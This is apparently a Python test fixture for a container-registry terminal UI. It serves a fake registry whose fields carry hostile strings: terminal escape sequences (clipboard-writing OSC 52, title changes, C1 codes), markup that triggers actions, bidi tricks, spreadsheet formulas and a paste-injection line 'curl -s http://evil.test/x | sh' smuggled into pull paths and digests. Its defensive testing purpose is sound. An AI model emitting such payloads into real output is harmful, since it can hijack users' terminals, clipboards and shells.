"""Hostile data for the fake registry: strings that try to break a terminal UI, in every field.

``CORPUS`` holds named strings: Rich/Textual markup, terminal escape sequences (OSC 52 clipboard,
OSC 0 window title, CSI, DCS, 8-bit C1), bidi overrides, zero-width and double-width characters,
a 10,000-character string, a lone surrogate and spreadsheet formulas (``=HYPERLINK(...)``,
``@SUM(1)``, ``-1+1``). Each carries a printable marker (``PWNED-...``) so
a test can find it, ``shown``: how it must look once made safe (``scrub``), and ``raw``: byte
sequences that must never reach a terminal.

``HostileRegistry`` serves the default data set plus:

- one namespace per corpus string that can travel in a URL, each with a repository ``app``;
- ``hostile``: repositories named with corpus strings (descriptions too) and "." and "..";
  ``tags``, whose tags are named with every corpus string and whose manifests (of every kind) carry
  them in annotations, platforms, layer fields and schema 1 fields; ``big``, with 5 MB and
  deeply nested manifests between small ones; and ``fields``, whose tags have well-formed names but
  malformed fields as the server sends them (``FIELD_TAGS``): a pull path, internal path and digest
  that carry a second shell command line (paste injection), and ``updated`` times that cannot be
  converted to UTC (year 1 at +14:00, year 9999 at -14:00), and a tag of the longest valid name;
- ``hostile-errors``: repository ``err-<entry>`` answers its tag list with HTTP 403 whose
  ``error_msg`` is that corpus string (``err-code``: a hostile ``error_code`` too);
- ``hostile-broken``: its repository list answers 400 with a hostile message and code;
- a repository shared with this account from a hostile-named namespace.

Strings with a lone surrogate travel as the JSON escape ``\\ud800`` (they cannot be UTF-8).
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
from dataclasses import dataclass, fields, replace
from datetime import datetime, timedelta
from functools import lru_cache
from typing import Any, Callable, Optional

from swr_tui.fake import routes
from swr_tui.fake.credentials import DEMO_DOMAIN, DEMO_DOMAIN_ID, DEMO_USER
from swr_tui.fake.dataset import (
    AUTH_MANAGE,
    AUTH_READ,
    Dataset,
    Namespace,
    Repository,
    SharedRepository,
    build_dataset,
)
from swr_tui.fake.entropy import hex_id, rng, sha256_digest
from swr_tui.fake.manifests import (
    DOCKER_CONFIG,
    DOCKER_LAYER,
    DOCKER_LIST,
    DOCKER_V2,
    OCI_CONFIG,
    OCI_INDEX,
    OCI_LAYER,
    OCI_MANIFEST,
    Built,
)
from swr_tui.fake.registry import FakeRegistry, Faults, Latency
from swr_tui.fake.replies import Reply, swr_error
from swr_tui.fake.tags import ExplicitTags, TagRecord
from swr_tui.safe_text import scrub

CLIPBOARD_PAYLOAD = base64.b64encode(b"PWNED-CLIPBOARD").decode("ascii")  # UFdORUQtQ0xJUEJPQVJE
PRIMARY_PAYLOAD = base64.b64encode(b"PWNED-PRIMARY").decode("ascii")
LONG_LENGTH = 10_000


@dataclass(frozen=True)
class Hostile:
    """One corpus string. ``shown`` is the start of its safe rendering (what a screen must show);
    ``raw`` are byte sequences (UTF-8) that must never reach a terminal."""

    name: str
    text: str
    marker: str
    raw: tuple[bytes, ...] = ()
    in_url: bool = True  # can travel in a URL path segment (a lone surrogate cannot be encoded)
    in_repo_name: bool = True  # SWR uses '$' for '/' in repository path segments: '$' cannot travel

    @property
    def shown(self) -> str:
        """The first 20 characters of the safe rendering: fits a narrow column, proves the escape."""
        return scrub(self.text)[:20]


def _entries() -> tuple[Hostile, ...]:
    long_text = "LONG-HEAD-" + "x" * (LONG_LENGTH - len("LONG-HEAD--LONG-TAIL")) + "-LONG-TAIL"
    return (
        Hostile(
            "osc52",
            f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07",
            CLIPBOARD_PAYLOAD,
            (f"\x1b]52;c;{CLIPBOARD_PAYLOAD}".encode(), f"52;c;{CLIPBOARD_PAYLOAD}\x07".encode()),
        ),
        Hostile(
            "osc52-st",
            f"\x1b]52;p;{PRIMARY_PAYLOAD}\x1b\\",
            PRIMARY_PAYLOAD,
            (f"\x1b]52;p;{PRIMARY_PAYLOAD}".encode(),),
        ),
        Hostile("osc0-title", "\x1b]0;PWNED-TITLE\x07", "PWNED-TITLE", (b"\x1b]0;PWNED-TITLE",)),
        Hostile(
            "osc8-link",
            "\x1b]8;;https://evil.example/\x1b\\PWNED-OSC8\x1b]8;;\x1b\\",
            "PWNED-OSC8",
            (b"\x1b]8;;https://evil.example/",),
        ),
        Hostile(
            "csi-sgr",
            "\x1b[31;5mPWNED-CSI-RED\x1b[0m",
            "PWNED-CSI-RED",
            (b"\x1b[31;5mPWNED", b"\x1b[31;5m"),
        ),
        Hostile("csi-clear", "\x1b[2J\x1b[HPWNED-CSI-CLEAR", "PWNED-CSI-CLEAR", (b"\x1b[HPWNED",)),
        # A query: the terminal answers on the app's input, as if the user had typed it.
        Hostile("csi-dsr", "\x1b[6nPWNED-DSR", "PWNED-DSR", (b"\x1b[6nPWNED",)),
        Hostile("dcs", "\x1bP+q544e\x1b\\PWNED-DCS", "PWNED-DCS", (b"\x1bP+q544e",)),
        Hostile(
            "c1-csi",
            "\x9b31mPWNED-C1-CSI\x9b0m",
            "PWNED-C1-CSI",
            ("\x9b".encode(), b"\x9b31m"),
        ),
        Hostile(
            "c1-osc",
            "\x9d0;PWNED-C1-TITLE\x9c",
            "PWNED-C1-TITLE",
            ("\x9d".encode(), "\x9c".encode()),
        ),
        Hostile("c0", "PWNED-C0\x00\x07\x08\x08\t\x7f", "PWNED-C0", (b"PWNED-C0\x00", b"\x08\x08")),
        Hostile("cr-newline", "PWNED-CR\rfake\nline", "PWNED-CR", (b"PWNED-CR\r",)),
        Hostile("bidi-rlo", "PWNED-\u202eRLO-gpj.exe", "RLO-gpj.exe", ("\u202e".encode(),)),
        Hostile("bidi-isolate", "\u2067PWNED-RLI\u2069", "PWNED-RLI", ("\u2067".encode(), "\u2069".encode())),
        Hostile(
            "line-separator", "PWNED-LS\u2028PS\u2029", "PWNED-LS", ("\u2028".encode(), "\u2029".encode())
        ),
        Hostile("zero-width", "PWNED\u200b-ZW\u200d-J\u2060\ufeff", "-ZW"),
        Hostile("emoji-zwj", "PWNED-👩\u200d👩\u200d👧-FAMILY", "-FAMILY"),
        Hostile("cjk-wide", "镜像仓库-PWNED-宽字符", "PWNED-宽字符"),
        Hostile("combining", "PWNED-Z\u0335\u0321A\u0336L\u0338GO", "PWNED-Z"),
        Hostile("markup-close", "[/]", "[/]"),
        Hostile("markup-close-named", "[/PWNED-CLOSE]", "[/PWNED-CLOSE]"),
        Hostile("markup-link", "[link=https://evil.example]PWNED-LINK[/link]", "PWNED-LINK"),
        Hostile("markup-click", "[@click=app.quit]PWNED-CLICK[/]", "PWNED-CLICK"),
        Hostile("markup-style", "[bold red on yellow]PWNED-STYLE[/]", "PWNED-STYLE"),
        Hostile("variables", "$accent PWNED-VAR $text-primary", "PWNED-VAR", in_repo_name=False),
        Hostile("emoji-code", ":warning: PWNED-EMOJI :skull:", "PWNED-EMOJI"),
        Hostile("format", "PWNED-FMT %s %n {0} {tag}", "PWNED-FMT"),
        Hostile(
            "lone-surrogate",
            "PWNED-\ud800-SURROGATE",
            "-SURROGATE",
            (b"\xed\xa0\x80",),
            in_url=False,
            in_repo_name=False,
        ),
        # Spreadsheet formulas (CSV injection): csv/tsv output must prefix them with "'".
        Hostile("formula-hyperlink", '=HYPERLINK("evil.example","PWNED-FORMULA")', "PWNED-FORMULA"),
        Hostile("formula-at", "@SUM(1)+PWNED-AT", "PWNED-AT"),
        Hostile("formula-minus", "-1+1+PWNED-MINUS", "PWNED-MINUS"),
        Hostile("long", long_text, "LONG-HEAD-"),
    )


CORPUS: tuple[Hostile, ...] = _entries()
BY_NAME: dict[str, Hostile] = {entry.name: entry for entry in CORPUS}

HOSTILE_NAMESPACE = "hostile"
ERRORS_NAMESPACE = "hostile-errors"
BROKEN_NAMESPACE = "hostile-broken"
TAGS_REPO = "tags"  # in HOSTILE_NAMESPACE: one tag per corpus string, plus one tag per manifest kind
BIG_REPO = "big"  # in HOSTILE_NAMESPACE: 5 MB and deeply nested manifests between small tags
FIELDS_REPO = "fields"  # in HOSTILE_NAMESPACE: plain names, malformed fields (FIELD_TAGS)
# Pasted into a shell, each of these runs the attacker's command after the expected one.
INJECTED_LINE = "\ncurl -s http://evil.test/x | sh\n"
PASTE_PATH = f"swr.example.test/h/paste:v1{INJECTED_LINE}"
PASTE_INTERNAL_PATH = f"100.125.0.198:20202/h/paste:v1{INJECTED_LINE}"
PASTE_DIGEST = f"sha256:{'ab' * 32}{INJECTED_LINE}"
EARLIEST_TIME = "0001-01-01T00:00:00+14:00"  # before datetime.min once in UTC
LATEST_TIME = "9999-12-31T23:59:59-14:00"  # after datetime.max once in UTC
LONGEST_TAG = "longest-" + "x" * 120  # 128 characters: the longest tag name the grammar allows
# FIELDS_REPO's tags, newest first: name -> the fields the server sends as given.
FIELD_TAGS: dict[str, dict[str, str]] = {
    "paste": {"path": PASTE_PATH, "internal_path": PASTE_INTERNAL_PATH, "digest": PASTE_DIGEST},
    "year-1": {"created": EARLIEST_TIME, "updated": EARLIEST_TIME},
    "year-9999": {"created": LATEST_TIME, "updated": LATEST_TIME},
    LONGEST_TAG: {},  # nothing malformed: valid references longer than the copy menu shows
}
NAMESPACE_REPO = "app"  # the repository in each corpus-named namespace
# Repositories named "." and "..": a client that leaves them unencoded in a URL path asks for
# another resource (httpx removes dot segments: .../repos/../tags becomes .../tags).
DOT_REPOS = (".", "..")
ERROR_PREFIX = "err-"
ERROR_CODE_REPO = "err-code"  # its error also has a hostile error_code
HOSTILE_CODE = "[/]\x1b]0;PWNED-CODE\x07\x9b1m"
# The error of hostile-broken's repository list and of err-code: several kinds at once, short enough
# to survive the client's 200-character cut.
COMBINED_MESSAGE = (
    f"[/]PWNED-MSG \x1b]52;c;{CLIPBOARD_PAYLOAD}\x07 \x1b]0;PWNED-TITLE\x07 \x9b31m [@click=app.quit]q[/]"
    " $accent \u202eRLO [link=https://evil.example]x[/link]"
)

# Manifest kinds of TAGS_REPO, in the order the "kind-<kind>" tags are listed.
MANIFEST_KINDS = (
    "docker",
    "oci",
    "docker-list",
    "oci-index",
    "schema1",
    "unknown",
    "invalid",
    "empty",
)

BIG_MANIFEST_BYTES = 5 * 1024 * 1024
NESTED_DEPTH = 50_000
SHALLOW_NESTED_DEPTH = 900  # deep, yet within what json reads and pretty-prints
# BIG_REPO's tags, newest first (the table's default order).
BIG_TAGS = (
    "small-top",
    "big-layers",
    "small-1",
    "big-line",
    "small-2",
    "nested-50000",
    "small-3",
    f"nested-{SHALLOW_NESTED_DEPTH}",
    "small-bottom",
)

_SURROGATE = re.compile("[\ud800-\udfff]")


def url_entries() -> tuple[Hostile, ...]:
    return tuple(entry for entry in CORPUS if entry.in_url)


def repo_name_entries() -> tuple[Hostile, ...]:
    return tuple(entry for entry in CORPUS if entry.in_url and entry.in_repo_name)


def error_repository(entry: Hostile) -> str:
    return f"{ERROR_PREFIX}{entry.name}"


# -- manifests --------------------------------------------------------------------------------


def _built(text: str, schema: int, tag_type: int, total: int, image_id: str = "") -> Built:
    # surrogatepass: a manifest holding a lone surrogate still has bytes to hash.
    digest = "sha256:" + hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
    return Built(text, digest, image_id or digest[len("sha256:") :], schema, tag_type, total)


def _dumps(document: Any, ascii_only: bool, indent: Optional[int] = None) -> str:
    separators = None if indent else (",", ":")
    return json.dumps(document, ensure_ascii=ascii_only, indent=indent, separators=separators)


def _texts_map(entries: tuple[Hostile, ...]) -> dict[str, str]:
    """Annotations: each entry under its own (plain) key, and once as a key itself."""
    found: dict[str, str] = {}
    for entry in entries:
        found[f"org.hostile.{entry.name}"] = entry.text
        found[entry.text] = f"key-{entry.name}"
    return found


def hostile_manifest(kind: str, entries: tuple[Hostile, ...], seed: str) -> Built:
    """A manifest of ``kind`` carrying every string of ``entries`` wherever that kind has text."""
    generator = rng("hostile", seed, kind)
    texts = [entry.text for entry in entries]
    first = texts[0]
    # Alternate how strings travel inside the manifest: raw UTF-8 (C1, bidi, surrogates unescaped)
    # or \\uXXXX escapes (a lone surrogate as "\\ud800").
    ascii_only = generator.random() < 0.5
    oci = kind in ("oci", "oci-index")
    if kind in ("docker", "oci"):
        layers = [
            {
                "mediaType": OCI_LAYER if oci else DOCKER_LAYER,
                "size": generator.randint(1_000, 9_000_000),
                "digest": sha256_digest(generator),
                "annotations": {"org.opencontainers.image.title": text},
            }
            for text in texts
        ]
        # One layer whose digest and media type are hostile too.
        layers.append({"mediaType": first, "size": 1, "digest": first})
        document: dict[str, Any] = {
            "schemaVersion": 2,
            "mediaType": OCI_MANIFEST if oci else DOCKER_V2,
            "config": {
                "mediaType": OCI_CONFIG if oci else DOCKER_CONFIG,
                "size": generator.randint(1_000, 9_000),
                "digest": sha256_digest(generator),
                "annotations": {"org.opencontainers.image.description": first},
            },
            "layers": layers,
            "annotations": _texts_map(entries),
        }
        text = _dumps(document, ascii_only, indent=3 if kind == "docker" else None)
        return _built(text, 2, 0, sum(layer["size"] for layer in layers), image_id=first)
    if kind in ("docker-list", "oci-index"):
        manifests = []
        for entry in entries:
            manifests.append(
                {
                    "mediaType": OCI_MANIFEST if oci else DOCKER_V2,
                    "size": generator.randint(400, 4_000),
                    "digest": sha256_digest(generator),
                    "platform": {
                        "os": "linux",
                        "architecture": entry.text,
                        "variant": entry.text,
                        "os.version": entry.text,
                    },
                    "annotations": {"org.hostile.name": entry.text},
                }
            )
        if oci:  # an attestation whose subject digest is hostile
            manifests.append(
                {
                    "mediaType": OCI_MANIFEST,
                    "size": 500,
                    "digest": sha256_digest(generator),
                    "annotations": {
                        "vnd.docker.reference.digest": first,
                        "vnd.docker.reference.type": "attestation-manifest",
                    },
                    "platform": {"architecture": "unknown", "os": "unknown"},
                }
            )
        document = {
            "schemaVersion": 2,
            "mediaType": OCI_INDEX if oci else DOCKER_LIST,
            "manifests": manifests,
            "annotations": _texts_map(entries),
        }
        return _built(_dumps(document, ascii_only), 2, 1, generator.randint(10**6, 10**8))
    if kind == "schema1":
        document = {
            "schemaVersion": 1,
            "name": first,
            "tag": first,
            "architecture": first,
            "fsLayers": [{"blobSum": text} for text in texts],
            "history": [
                {"v1Compatibility": _dumps({"id": first, "config": {"Labels": {"hostile": text}}}, False)}
                for text in texts
            ],
            "signatures": [],
        }
        return _built(_dumps(document, ascii_only, indent=3), 1, 0, 0)
    if kind == "unknown":
        document = {"schemaVersion": 2, "mediaType": first, "hostile": texts}
        return _built(_dumps(document, ascii_only), 2, 0, 0)
    if kind == "invalid":
        # Not JSON: raw strings (control characters included) in a truncated document.
        text = '{"schemaVersion": 2, "mediaType": "' + '", "'.join(texts) + '", "layers": [{"dig'
        return _built(text, 2, 0, 0)
    if kind == "empty":
        return _built("", 2, 0, 0)
    raise ValueError(f"unknown manifest kind {kind!r}")


def _plain_image(seed: str) -> Built:
    generator = rng("hostile-plain", seed)
    document = {
        "schemaVersion": 2,
        "mediaType": DOCKER_V2,
        "config": {"mediaType": DOCKER_CONFIG, "size": 1_234, "digest": sha256_digest(generator)},
        "layers": [
            {
                "mediaType": DOCKER_LAYER,
                "size": generator.randint(10**5, 10**7),
                "digest": sha256_digest(generator),
            }
            for _ in range(3)
        ],
    }
    text = _dumps(document, False)
    return _built(text, 2, 0, sum(layer["size"] for layer in document["layers"]))


def big_layers_manifest(target_bytes: int = BIG_MANIFEST_BYTES) -> Built:
    """An OCI image manifest of tens of thousands of layers, about ``target_bytes`` long."""
    generator = rng("hostile-big-layers")
    layer = {"mediaType": OCI_LAYER, "size": 0, "digest": ""}
    per_layer = len(json.dumps(layer, separators=(",", ":"))) + 64 + 10
    count = target_bytes // per_layer
    layers = [
        {"mediaType": OCI_LAYER, "size": 1_000 + index, "digest": f"sha256:{generator.getrandbits(256):064x}"}
        for index in range(count)
    ]
    document = {
        "schemaVersion": 2,
        "mediaType": OCI_MANIFEST,
        "config": {"mediaType": OCI_CONFIG, "size": 1_500, "digest": sha256_digest(generator)},
        "layers": layers,
        "annotations": {"org.hostile.marker": "PWNED-BIG-LAYERS"},
    }
    text = _dumps(document, True)
    return _built(text, 2, 0, sum(item["size"] for item in layers))


def big_line_manifest(target_bytes: int = BIG_MANIFEST_BYTES) -> Built:
    """An image manifest on one line, most of it a single annotation value of corpus strings."""
    generator = rng("hostile-big-line")
    unit = "".join(entry.text for entry in CORPUS if entry.name not in ("long", "lone-surrogate"))
    unit_bytes = len(json.dumps(unit, ensure_ascii=False).encode("utf-8")) - 2  # as it travels
    value = "PWNED-BIG-LINE " + unit * (target_bytes // unit_bytes + 1)
    document = {
        "schemaVersion": 2,
        "mediaType": DOCKER_V2,
        "config": {"mediaType": DOCKER_CONFIG, "size": 1_500, "digest": sha256_digest(generator)},
        "layers": [{"mediaType": DOCKER_LAYER, "size": 5_000_000, "digest": sha256_digest(generator)}],
        "annotations": {"org.hostile.big": value},
    }
    return _built(_dumps(document, False), 2, 0, 5_001_500)


def nested_manifest(depth: int) -> Built:
    """A manifest whose annotations hold a list nested ``depth`` levels deep."""
    head = f'{{"schemaVersion":2,"mediaType":"{DOCKER_V2}","annotations":{{"org.hostile.deep":'
    text = head + "[" * depth + '"PWNED-DEEP"' + "]" * depth + "}}"
    return _built(text, 2, 0, 0)


# -- the data set -----------------------------------------------------------------------------


def _records(specs: list[tuple[str, Built]], newest: datetime, id_base: int) -> ExplicitTags:
    """Tags oldest first (index 0); ``specs`` is given newest first, one hour apart."""
    records = []
    count = len(specs)
    for index, (name, built) in enumerate(reversed(specs)):
        updated = newest - timedelta(hours=count - 1 - index)
        records.append(TagRecord(index, id_base + index, name, built, updated, updated, index % 2 == 0))
    return ExplicitTags(records)


class _Ids:
    def __init__(self) -> None:
        self.repo = 990_000
        self.tag = 99_000_000

    def next_repo(self) -> int:
        self.repo += 1
        return self.repo

    def next_tags(self) -> int:
        self.tag += 10_000
        return self.tag


def _repository(
    ids: _Ids,
    namespace: Namespace,
    name: str,
    specs: list[tuple[str, Built]],
    newest: datetime,
    description: str = "",
    category: str = "other",
    creator: str = DEMO_USER,
    domain_name: str = DEMO_DOMAIN,
) -> Repository:
    tags = _records(specs, newest, ids.next_tags())
    size = sum(tags.record(index).size for index in range(tags.count))
    created = newest - timedelta(days=30)
    return Repository(
        id=ids.next_repo(),
        ns_id=namespace.id,
        namespace=namespace.name,
        name=name,
        category=category,
        description=description,
        is_public=False,
        num_download=7,
        size=size,
        created=created,
        updated=newest,
        creator_id=hex_id("hostile", "user", creator),
        creator_name=creator,
        domain_id=DEMO_DOMAIN_ID,
        domain_name=domain_name,
        tags=tags,
    )


def tags_repo_specs() -> list[tuple[str, Built]]:
    """TAGS_REPO's tags, newest first: one per corpus string, then one per manifest kind."""
    specs: list[tuple[str, Built]] = []
    for index, entry in enumerate(CORPUS):
        kind = MANIFEST_KINDS[index % len(MANIFEST_KINDS)]
        specs.append((entry.text, hostile_manifest(kind, (entry,), entry.name)))
    for kind in MANIFEST_KINDS:
        specs.append((f"kind-{kind}", hostile_manifest(kind, CORPUS, "all")))
    # A tag whose digest and image id fields themselves are hostile (the manifest is plain).
    plain = _plain_image("digest")
    osc52 = BY_NAME["osc52"].text
    specs.append(("hostile-digest", replace(plain, digest=f"sha256:{osc52}", image_id=osc52)))
    return specs


def big_repo_specs() -> list[tuple[str, Built]]:
    built = {
        "big-layers": big_layers_manifest(),
        "big-line": big_line_manifest(),
        "nested-50000": nested_manifest(NESTED_DEPTH),
        f"nested-{SHALLOW_NESTED_DEPTH}": nested_manifest(SHALLOW_NESTED_DEPTH),
    }
    return [(name, built.get(name) or _plain_image(name)) for name in BIG_TAGS]


def _with_wire_fields(tags: ExplicitTags, wire: dict[str, dict[str, str]]) -> ExplicitTags:
    records = [tags.record(index) for index in range(tags.count)]
    return ExplicitTags(
        [replace(record, wire=tuple(wire.get(record.name, {}).items())) for record in records]
    )


def build_hostile_dataset(seed: int = 0, anchor: Optional[datetime] = None) -> Dataset:
    """The default data set plus the hostile namespaces, repositories and tags (module docstring)."""
    base = build_dataset(seed, anchor)
    newest = base.anchor - timedelta(hours=3)
    ids = _Ids()
    namespaces: list[Namespace] = []
    repos: list[Repository] = []

    def add_namespace(name: str, creator: str = DEMO_USER, auth: int = AUTH_MANAGE) -> Namespace:
        namespace = Namespace(2_000_000 + len(namespaces), name, creator, auth)
        namespaces.append(namespace)
        return namespace

    hostile = add_namespace(HOSTILE_NAMESPACE)
    repos.append(
        _repository(ids, hostile, TAGS_REPO, tags_repo_specs(), newest, BY_NAME["markup-close"].text)
    )
    repos.append(_repository(ids, hostile, BIG_REPO, big_repo_specs(), newest, "5 MB and nested manifests"))
    fields_repo = _repository(
        ids,
        hostile,
        FIELDS_REPO,
        [(name, _plain_image(name)) for name in FIELD_TAGS],
        newest,
        "malformed fields",
    )
    repos.append(replace(fields_repo, tags=_with_wire_fields(fields_repo.tags, FIELD_TAGS)))
    for index, entry in enumerate(repo_name_entries()):
        repos.append(
            _repository(
                ids,
                hostile,
                entry.text,
                [(entry.text, hostile_manifest("docker", (entry,), f"repo-{entry.name}"))],
                newest - timedelta(minutes=index + 1),
                description=entry.text,
                category=entry.text,
                creator=entry.text,
                domain_name=entry.text,
            )
        )
    for name in DOT_REPOS:
        repos.append(_repository(ids, hostile, name, [(f"dot-{len(name)}", _plain_image(name))], newest))
    # Descriptions of every corpus string, the ones that cannot be repository names included.
    repos.append(
        _repository(
            ids,
            hostile,
            "descriptions",
            [("latest", _plain_image("descriptions"))],
            newest,
            description=" ".join(entry.text for entry in CORPUS),
        )
    )

    errors = add_namespace(ERRORS_NAMESPACE)
    for entry in CORPUS:
        repos.append(
            _repository(ids, errors, error_repository(entry), [("latest", _plain_image(entry.name))], newest)
        )
    repos.append(_repository(ids, errors, ERROR_CODE_REPO, [("latest", _plain_image("code"))], newest))

    broken = add_namespace(BROKEN_NAMESPACE)
    repos.append(_repository(ids, broken, "never-listed", [("latest", _plain_image("broken"))], newest))

    for entry in CORPUS:
        # The namespace list is a JSON body, so every name can be in it; a name that cannot travel
        # in a URL (a lone surrogate) simply has no repositories anyone could ask for.
        namespace = add_namespace(entry.text, creator=entry.text, auth=AUTH_READ)
        if entry.in_url:
            repos.append(
                _repository(
                    ids,
                    namespace,
                    NAMESPACE_REPO,
                    [(entry.text, hostile_manifest("oci", (entry,), f"ns-{entry.name}"))],
                    newest,
                    description=entry.text,
                )
            )

    share_owner = Namespace(2_900_000, BY_NAME["osc0-title"].text, "vendor", AUTH_READ)
    shared_repo = _repository(
        ids,
        share_owner,
        BY_NAME["markup-click"].text,
        [(BY_NAME["c1-csi"].text, hostile_manifest("oci-index", (BY_NAME["bidi-rlo"],), "shared"))],
        newest,
        description=BY_NAME["osc52"].text,
        domain_name=BY_NAME["csi-clear"].text,
    )
    return replace(
        base,
        namespaces=base.namespaces + tuple(namespaces),
        repositories=base.repositories + tuple(repos),
        shared=(*base.shared, SharedRepository(shared_repo, "thirdparty", True)),
    )


@lru_cache(maxsize=2)
def _shared_hostile_dataset(seed: int, now: Optional[datetime]) -> Dataset:
    return build_hostile_dataset(seed, now)


# -- the registry -----------------------------------------------------------------------------


class _SurrogateSafeReply(Reply):
    """A JSON reply whose lone surrogates leave as ``\\udXXX`` escapes, as a server that does not
    validate its strings sends them (they cannot be encoded as UTF-8)."""

    def body(self) -> bytes:
        if self.raw is not None or self.payload is None:
            return super().body()
        text = json.dumps(self.payload, ensure_ascii=False, separators=(",", ":"))
        try:
            return text.encode("utf-8")
        except UnicodeEncodeError:
            return _SURROGATE.sub(lambda match: f"\\u{ord(match.group()):04x}", text).encode("utf-8")


class HostileRegistry(FakeRegistry):
    """``FakeRegistry`` on the hostile data set, with hostile error bodies on the routes above."""

    def __init__(
        self,
        seed: int = 0,
        latency_ms: Latency = 0.0,
        faults: Faults = None,
        now: Optional[datetime] = None,
        token_ttl_s: float = 86_400,
        clock: Optional[Callable[[], datetime]] = None,
    ) -> None:
        super().__init__(seed, latency_ms, faults, now, token_ttl_s, clock)
        self.dataset = _shared_hostile_dataset(seed, now)

    def _answer(
        self,
        request: Any,
        route: routes.Route,
        params: dict[str, str],
        query_error: Any,
        now: datetime,
        request_id: str,
    ) -> Reply:
        reply = super()._answer(request, route, params, query_error, now, request_id)
        if reply.status == 200:
            reply = planted_error(route, params) or reply
        return _SurrogateSafeReply(**{field.name: getattr(reply, field.name) for field in fields(reply)})


def planted_error(route: routes.Route, params: dict[str, str]) -> Optional[Reply]:
    """The hostile error body a request gets instead of its answer, if any."""
    namespace = route.params.get("namespace") or params.get("namespace", "")
    if namespace == BROKEN_NAMESPACE and route.name in (routes.REPOS, routes.REPO, routes.TAGS, routes.TAG):
        return swr_error(400, HOSTILE_CODE, COMBINED_MESSAGE)
    if namespace == ERRORS_NAMESPACE and route.name in (routes.TAGS, routes.TAG):
        repository = route.params.get("repository", "")
        if repository == ERROR_CODE_REPO:
            return swr_error(403, HOSTILE_CODE, COMBINED_MESSAGE)
        entry = BY_NAME.get(repository[len(ERROR_PREFIX) :]) if repository.startswith(ERROR_PREFIX) else None
        if entry is not None:
            return swr_error(403, "SVCSTG.SWR.4030170", entry.text)
    return None
